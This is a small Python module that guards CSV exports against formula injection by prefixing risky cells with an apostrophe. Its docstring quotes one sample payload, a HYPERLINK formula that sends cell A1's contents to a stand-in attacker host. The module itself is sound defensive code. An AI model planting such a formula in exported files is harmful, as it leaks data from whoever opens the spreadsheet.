"""Cells of the CSV files the suite writes.

A spreadsheet application runs a cell that starts with ``=``, ``+``, ``-`` or
``@`` (or a tab or carriage return before one) as a formula: a supplier's
catalog line ``=HYPERLINK("http://evil.example/?"&A1, "click")`` echoed into a
report would run on the desk of whoever opens it (CSV injection). Such cells
get a leading apostrophe, as OWASP recommends: the spreadsheet then shows the
text as it was written. The data itself is stored as given ("-20 V diode",
"+5V regulator" and even "@SUM(1+1)" are names a catalog may hold); only the
files the suite writes are neutralised.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    """``value`` as a spreadsheet will show it, never run it."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values):
    """The row with each cell made safe (see ``csv_cell``)."""
    return [csv_cell(value) for value in values]
